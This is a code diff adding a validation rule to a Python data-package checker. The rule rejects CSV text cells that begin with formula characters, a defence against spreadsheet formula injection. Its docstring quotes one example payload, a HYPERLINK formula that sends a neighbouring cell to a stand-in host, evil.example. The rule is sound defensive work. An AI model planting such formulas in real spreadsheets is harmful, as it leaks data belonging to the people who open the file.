@@ -98,6 +98,33 @@ def clean_text(frames: Frames) -> Found:
             yield name, fld.name, raw.select(expr.fill_null(False)).to_series()
 
 
+def _text_fields(package: Package) -> Iterator[tuple[str, str]]:
+    """Every text field (type string), as (table, field)."""
+    for table in package.tables.values():
+        for fld in table.fields:
+            if fld.type == "string":
+                yield table.name, fld.name
+
+
+FORMULA_START = r"^[=+\-@\t\r]"
+
+
+@rule(targets=_text_fields, describe=lambda fld, value: f"{fld.name} starts with {str(value)[:1]!r}, which a "
+      "spreadsheet opening the CSV runs as a formula")
+def no_formula_text(frames: Frames) -> Found:
+    """No text cell starts with '=', '+', '-', '@', tab or CR.
+
+    Why: the CSV files are shipped as they are, and a spreadsheet that opens one runs such a cell
+    as a formula (``=HYPERLINK("http://evil.example/?leak="&A2,"x")`` sends a neighbouring cell
+    away when clicked). Escaping it in the release would change the data everyone reads back, so
+    validation refuses it instead (README, Security)."""
+    import polars as pl
+
+    for table, name in _text_fields(frames.package):
+        if table in frames.raw:
+            yield table, name, frames.raw[table].select(pl.col(name).str.contains(FORMULA_START)).to_series()
+
+
 @rule(STATES, targets=("states.state_id",))
 def state_codes_are_iso3166(frames: Frames) -> Found:
     """A state code is a real ISO 3166-1 alpha-3 code."""
